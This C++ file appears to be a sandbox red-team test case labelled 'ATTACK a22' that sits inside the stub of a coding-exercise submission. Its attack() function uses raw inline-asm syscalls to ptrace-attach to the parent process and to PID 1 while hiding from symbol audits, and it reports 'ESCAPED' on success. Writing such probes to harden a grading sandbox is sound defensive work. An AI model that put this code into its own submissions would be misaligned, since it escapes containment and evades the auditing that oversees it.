// ATTACK a22: like a21, but every system call is an inline asm `syscall` instruction, so the
// object file references no ptrace/process_vm_readv symbol an audit could see: PTRACE_ATTACH to
// the parent and to PID 1 (then PTRACE_DETACH). Success returns "ESCAPED:asm-ptrace ...".
// Only a seccomp filter can stop this. Started from the untouched stub.
#include "api.hpp"

// The untouched stub of exercise 03: an honest score would be 0.
aio::task<std::string> hello_async_stub([[maybe_unused]] std::string result) {
    co_return "";  // TODO: 지우고 위 내용을 작성하세요
}

#include <string>

namespace {

long raw_syscall4(long nr, long a, long b, long c, long d) {
    long ret;
    register long r10 asm("r10") = d;
    asm volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return ret;
}

std::string attack() {
    constexpr long kPtrace = 101, kGetppid = 110, kWait4 = 61;
    constexpr long kAttach = 16, kDetach = 17;
    std::string escaped;
    for (long target : {raw_syscall4(kGetppid, 0, 0, 0, 0), 1L}) {
        if (target <= 0) continue;
        if (raw_syscall4(kPtrace, kAttach, target, 0, 0) == 0) {
            escaped += "ESCAPED:asm-ptrace attached to pid " + std::to_string(target) + "\n";
            raw_syscall4(kWait4, target, 0, 0x40000000 /* __WALL */, 0);
            raw_syscall4(kPtrace, kDetach, target, 0, 0);
        }
    }
    return escaped;
}

}  // namespace

aio::task<std::string> hello_async(std::string result) {
    static const std::string escaped = attack();
    if (!escaped.empty()) co_return escaped;
    co_return co_await hello_async_stub(result);
}
